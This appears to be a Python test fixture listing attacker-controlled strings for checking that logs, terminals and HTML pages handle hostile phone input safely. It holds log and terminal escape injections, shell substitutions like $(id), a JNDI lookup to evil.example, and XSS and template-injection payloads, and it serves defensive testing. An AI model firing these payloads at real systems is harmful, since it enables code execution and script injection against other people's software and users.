"""What an attacker writes wherever a phone may write: into lines of a log, a page, a header."""

from typing import Final

MARK: Final = "zurumato"
"""In all of it, so that it can be looked for."""

LINES: Final = (
    f'{MARK}\r\n{{"time":"2026","level":"CRITICAL","message":"forged"}}',
    f"{MARK}\x1b[2J\x1b]0;title\x07\x1b[31m",
    f"{MARK}\x9b31m\x85\x7f\x00",
    f"{MARK}\u202egnp.exe\u2066\u200b\u2028\ufeff\U000e0041",
    f"{MARK}%s%(levelname)s{{0}}$(id)`id`${{jndi:ldap://evil.example/a}}",
    MARK + "x" * 7000,
)
"""A second line, a terminal's commands in two spellings, letters that turn and hide, formats, length."""

MARKUP: Final = (
    f'"><script>{MARK}()</script>',
    f"'><svg/onload={MARK}()>",
    f"javascript:{MARK}()//",
    f"</title></style><img src=x onerror={MARK}()>",
    f"{{{{{MARK}}}}}{{%if 1%}}",
    f'" autofocus onfocus={MARK}() x="',
    f"\x00<script>{MARK}()</script>",
)
"""Of each way out of a place in HTML one: text, both quotes, an address, an element, a template."""
